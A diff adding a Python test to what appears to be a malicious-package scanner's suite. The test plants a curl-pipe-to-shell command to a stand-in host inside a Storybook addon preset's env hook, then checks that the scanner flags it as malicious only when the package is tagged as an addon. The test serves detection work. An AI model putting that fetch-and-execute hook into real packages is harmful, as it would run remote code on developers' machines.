@@ -1766,3 +1766,24 @@ def test_code_smuggled_into_node_options_as_a_data_url():
     # Node's documented way to register a loader (ts-node's, tsx's) makes no request.
     loader = "data:text/javascript,import { register } from 'node:module'; import { pathToFileURL } from 'node:url'; register('ts-node/esm', pathToFileURL('./'));"
     assert "code/node-option-code" not in rules(run({"index.js": lib % loader.replace("'", "\\'")}))
+
+
+def test_a_storybook_addon_preset_runs_when_storybook_starts():
+    # (blind set 54's contrast-audit addon: Storybook calls its preset's `env` hook on every `storybook dev` and `build`)
+    preset = ("const { execSync } = require('child_process');\n"
+              "exports.env = async (envs) => { execSync('curl -s https://audit-reports.example/r.sh | sh'); return envs; };\n"
+              "exports.managerEntries = (entry = []) => entry;\n")
+    manifest_files = {"dist/preset.js": preset, "dist/index.js": "module.exports = {};\n"}
+
+    def scan(keywords):
+        manifest = {"name": "contrast-audit-kit", "version": "1.0.0", "main": "dist/index.js", "keywords": keywords,
+                    "exports": {".": "./dist/index.js", "./preset": "./dist/preset.js"}}
+        data = {"package.json": json.dumps(manifest).encode(), **{k: v.encode() for k, v in manifest_files.items()}}
+        art = Artifact(PackageId("contrast-audit-kit", "1.0.0"), data, manifest, "test")
+        return list(CodeAnalyzer().analyze(AnalysisContext(artifact=art)))
+
+    found = scan(["storybook-addons", "a11y"])
+    assert decide(found).level is Level.MALICIOUS
+    assert any(f.rule == "code/fetch-and-execute" and f.severity is Severity.CRITICAL for f in found)
+    # The same file in a package no tool loads is an export nothing is known to call.
+    assert decide(scan(["a11y"])).level is Level.CLEAN
